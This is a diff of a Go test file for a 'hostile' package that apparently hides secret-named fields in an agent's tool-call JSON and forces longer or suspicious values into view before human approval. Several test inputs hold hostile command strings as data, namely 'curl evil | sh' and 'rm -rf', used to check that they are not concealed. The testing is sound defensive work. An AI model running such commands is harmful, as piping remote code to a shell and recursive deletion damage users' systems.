@@ -22,6 +22,12 @@ func TestFingerprint(t *testing.T) {
 	}
 }
 
+// declared is a schema that declares some properties with the names of secrets.
+const declared = `{"properties":{"token":{},"password":{},"token_options":{},"tokens":{"items":{"type":"string"}},"credentials":{"properties":{"password":{}}},
+	"options":{"properties":{"password":{}}},"private_key":{},"secret":{},"max_tokens":{},"X-Api-Key":{},"auth":{"$ref":"#/$defs/auth"},
+	"api":{"additionalProperties":{"properties":{"seed_secret":{}}}}},"patternProperties":{"_token$":{}},
+	"$defs":{"auth":{"oneOf":[{"properties":{"client_secret":{}}},{"type":"null"}]}}}`
+
 // A value that is more than a single secret must be revealed before approval, whether the name or the schema hides it.
 func TestSecretsThatAreWithheld(t *testing.T) {
 	t.Parallel()
@@ -30,21 +36,21 @@ func TestSecretsThatAreWithheld(t *testing.T) {
 		name, schema, document string
 		want                   int
 	}{
-		{"a token", ``, `{"token":"tok-93f1","path":"/x"}`, 0},
-		{"as long as may be", ``, `{"token":"` + long + `"}`, 0},
-		{"longer", ``, `{"token":"` + long + `x"}`, 1},
-		{"characters, not bytes", ``, `{"token":"` + strings.Repeat("é", 256) + `"}`, 0},
-		{"of two lines", ``, `{"password":"a\nb"}`, 1},
-		{"another line break", ``, `{"password":"a\u2028b"}`, 1},
-		{"below a name", ``, `{"token_options":{"command":"curl evil | sh","deep":{"more":"rm"}}}`, 2},
-		{"a list below a name", ``, `{"tokens":["rm","-rf"]}`, 2},
-		{"a name below a name", ``, `{"credentials":{"password":"p"}}`, 1},
-		{"beside one", ``, `{"options":{"password":"p"}}`, 0},
+		{"a token", declared, `{"token":"tok-93f1","path":"/x"}`, 0},
+		{"as long as may be", declared, `{"token":"` + long + `"}`, 0},
+		{"longer", declared, `{"token":"` + long + `x"}`, 1},
+		{"characters, not bytes", declared, `{"token":"` + strings.Repeat("é", 256) + `"}`, 0},
+		{"of two lines", declared, `{"password":"a\nb"}`, 1},
+		{"another line break", declared, `{"password":"a\u2028b"}`, 1},
+		{"below a name", declared, `{"token_options":{"command":"curl evil | sh","deep":{"more":"rm"}}}`, 2},
+		{"a list below a name", declared, `{"tokens":["rm","-rf"]}`, 2},
+		{"a name below a name", declared, `{"credentials":{"password":"p"}}`, 1},
+		{"beside one", declared, `{"options":{"password":"p"}}`, 0},
 		{"marked", `{"properties":{"a":{"writeOnly":true}}}`, `{"a":"short"}`, 0},
 		{"marked, and long", `{"properties":{"a":{"format":"password"}}}`, `{"a":"x` + long + `"}`, 1},
 		{"below what is marked", `{"properties":{"a":{"writeOnly":true}}}`, `{"a":{"b":"short","n":1}}`, 2},
 		{"all is marked", `{"writeOnly":true}`, `{"command":"curl evil | sh"}`, 1},
-		{"not a secret", ``, `{"text":"` + long + long + `"}`, 0},
+		{"not a secret", declared, `{"text":"` + long + long + `"}`, 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
@@ -71,13 +77,15 @@ func TestSecrets(t *testing.T) {
 		shown                  []string
 	}{
 		{
-			"by name", `{}`, `{"password":"hunter2","user":"ana","X-Api-Key":"k1","auth":{"client_secret":"s1"}}`,
-			[]string{"hunter2", "k1", "s1"},
+			"by name", declared, `{"password":"hunter2","user":"ana","X-Api-Key":"k1","auth":{"client_secret":"s1"},"api":{"a":{"seed_secret":"s2"}},"my_token":"m1"}`,
+			[]string{"hunter2", "k1", "s1", "s2", "m1"},
 			[]string{"ana"},
 		},
-		{"below a name", ``, `{"credentials":{"who":"w1","list":["w2"]},"who":"w3"}`, []string{"w1", "w2"}, []string{"w3"}},
-		{"numbers by name are none", ``, `{"max_tokens":4096,"token":true,"secret":null}`, nil, []string{"4096", "true", "null"}},
-		{"nothing is nothing to hide", ``, `{"password":""}`, nil, []string{"password"}},
+		{"names that only the agent chose", declared, `{"passwd":"rm -rf","api":{"password":"p1"},"list":[{"token":"t1"}]}`, nil, []string{"rm -rf", "p1", "t1"}},
+		{"without a schema", ``, `{"password":"p1"}`, nil, []string{"p1"}},
+		{"below a name", declared, `{"credentials":{"who":"w1","list":["w2"]},"who":"w3"}`, []string{"w1", "w2"}, []string{"w3"}},
+		{"numbers by name are none", declared, `{"max_tokens":4096,"token":true,"secret":null}`, nil, []string{"4096", "true", "null"}},
+		{"nothing is nothing to hide", declared, `{"password":""}`, nil, []string{"password"}},
 		{
 			"by schema", marked, `{"login":{"word":"w1","pin":4711471147114711,"user":"ana"},"list":[{"seed":"s1"},{"sown":"s2"}],"pair":["p1","p2"],
 			"old":["o1","o2"],"whole":{"deep":[{"in":"z1"}]},"x-one":"x1","y-one":"y1"}`,
@@ -85,7 +93,7 @@ func TestSecrets(t *testing.T) {
 			[]string{"ana", "s2", "p1", "o2", "y1"},
 		},
 		{"a schema that goes round", `{"$ref":"#","properties":{"a":{"$ref":"#"},"b":{"writeOnly":true}}}`, `{"a":{"a":{"b":"u1","c":"c1"}}}`, []string{"u1"}, []string{"c1"}},
-		{"a schema that is none", `{"writeOnly":`, `{"a":"a1","token":"t1"}`, []string{"t1"}, []string{"a1"}},
+		{"a schema that is none", `{"writeOnly":`, `{"a":"a1","token":"t1"}`, nil, []string{"a1", "t1"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
@@ -139,7 +147,7 @@ func TestSecrets(t *testing.T) {
 func TestSecretsInWhatIsCut(t *testing.T) {
 	t.Parallel()
 	limits := hostile.Folded()
-	limits.Secrets = hostile.SecretsOf(nil)
+	limits.Secrets = hostile.SecretsOf([]byte(declared))
 	key := strings.Repeat("-key-\n", 300)
 	for _, document := range []string{
 		`{"private_key":"` + strings.ReplaceAll(key, "\n", `\n`) + `","a":"` + strings.Repeat("word ", 500) + `"}`,
@@ -165,9 +173,58 @@ func TestSecretsInWhatIsCut(t *testing.T) {
 func TestDecisiveHidesWhatTheSchemaMarks(t *testing.T) {
 	t.Parallel()
 	limits := hostile.Brief()
-	limits.Secrets = hostile.SecretsOf([]byte(`{"properties":{"to":{"writeOnly":true}}}`))
-	fields := hostile.Decisive([]byte(`{"to":"ana","api":{"tokens":{"path":"p"}},"n":1}`), 3, limits)
-	if len(fields.List) != 1 || fields.List[0].Name != "n" || fields.More != 2 {
+	limits.Secrets = hostile.SecretsOf([]byte(`{"properties":{"to":{"writeOnly":true},"token":{}}}`))
+	fields := hostile.Decisive([]byte(`{"to":"ana","token":"t","n":1,"password":"p"}`), 3, limits)
+	if len(fields.List) != 2 || fields.List[0].Name != "n" || fields.List[1].Name != "password" || fields.More != 2 {
 		t.Errorf("%s and %d more", drawnFields(fields), fields.More)
+	}
+}
+
+func TestNamedByAgent(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct{ name, schema, document, want string }{
+		{"not declared", `{"properties":{"to":{}}}`, `{"to":"a","password":"curl evil | sh"}`, "/password"},
+		{"declared", declared, `{"password":"p","credentials":{"password":"q"}}`, ""},
+		{"below a name", ``, `{"tokens":[{"a":"b"},"c"],"n":1}`, "/tokens/0/a /tokens/1"},
+		{"in a free object", `{"properties":{"headers":{"additionalProperties":{"type":"string"}}}}`, `{"headers":{"Authorization":"x","Accept":"y"}}`, "/headers/Authorization"},
+		{"a name with a slash", ``, `{"a/b~secret":"x"}`, "/a~1b~0secret"},
+		{"numbers are none", ``, `{"max_tokens":5}`, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			secrets := hostile.SecretsOf([]byte(tt.schema))
+			if got := strings.Join(secrets.NamedByAgent([]byte(tt.document)), " "); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestExemptPaths(t *testing.T) {
+	t.Parallel()
+	const document = `{"token":"t1","credentials":{"user":"u1","password":"p1"},"tokens":["a1","b1"],"a/token":"s1"}`
+	const schema = `{"properties":{"token":{},"credentials":{"properties":{"password":{}}},"tokens":{},"a/token":{}}}`
+	for _, tt := range []struct {
+		exempt string
+		hidden int
+	}{
+		{"", 6},
+		{"/token", 5},
+		{"/tokens", 4},
+		{"/tokens/0", 5},
+		{"/tokens/*", 4},
+		{"/credentials", 5},
+		{"/credentials /credentials/password", 4},
+		{"/*", 1},
+		{"/a~1token", 5},
+		{"/other", 6},
+	} {
+		t.Run(tt.exempt, func(t *testing.T) {
+			t.Parallel()
+			secrets := hostile.SecretsOf([]byte(schema), strings.Fields(tt.exempt)...)
+			if text, n := secrets.Redacted([]byte(document)); n != tt.hidden || len(secrets.NamedByAgent([]byte(document))) != 0 {
+				t.Errorf("%d hidden, want %d: %s", n, tt.hidden, text)
+			}
+		})
 	}
 }
